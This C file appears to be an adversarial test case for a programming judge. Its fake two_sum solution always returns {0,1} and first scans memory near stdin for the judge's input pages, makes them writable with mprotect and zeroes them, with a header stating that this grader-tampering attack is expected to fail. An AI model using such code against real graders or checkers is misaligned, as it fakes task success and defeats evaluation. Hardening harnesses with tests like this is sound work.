/* attack: make the judge's shared copy of the input writable and change it
 * allowed: wrong_answer runtime_error
 * invariant: a wrong answer is never accepted
 * control: stands
 */
#include <stdlib.h>
#include <signal.h>
#include <setjmp.h>
#include <stdio.h>
#include <unistd.h>
#include <string.h>
#include <sys/mman.h>

/* The harness keeps its state near the symbols that it exports. A handler makes reading safe. */
static sigjmp_buf back;

static void unreadable(int s)
{
    (void)s;
    siglongjmp(back, 1);
}

static int readable(const volatile unsigned char *p)
{
    static int ready;
    struct sigaction on = {.sa_handler = unreadable, .sa_flags = SA_NODEFER};
    volatile int yes = 0;
    if (!ready++) {
        sigaction(SIGSEGV, &on, NULL);
        sigaction(SIGBUS, &on, NULL);
    }
    if (sigsetjmp(back, 0) == 0) {
        (void)*p;
        yes = 1;
    }
    return yes;
}

static int page_readable(unsigned long at)
{
    static unsigned long known, good;
    if (known != (at & -4096ul)) {
        known = at & -4096ul;
        good = (unsigned long)readable((const volatile unsigned char *)known);
    }
    return (int)good;
}

/* Pages that begin with the mark of an input frame. */
static void change_input(int first)
{
    unsigned long around = (unsigned long)&stdin & -4096ul;
    (void)first;
    for (unsigned long at = around - (1 << 18); at < around + (1 << 18); at += 8) {
        if (!page_readable(at))
            continue;
        unsigned long p = *(unsigned long *)at;
        if (p <= 4096 || p >= 0x800000000000 || p % 4096 != 0 || !page_readable(p) ||
            *(unsigned *)p != 0x4a55)
            continue;
        if (mprotect((void *)p, 4096, PROT_READ | PROT_WRITE) == 0)
            memset((char *)p + 64, 0, 2000);
    }
}

int *two_sum(int *nums, int nums_size, int target, int *return_size)
{
    static int pair[2] = {0, 1};
    change_input(nums[0]);
    *return_size = 2;
    return pair;
}
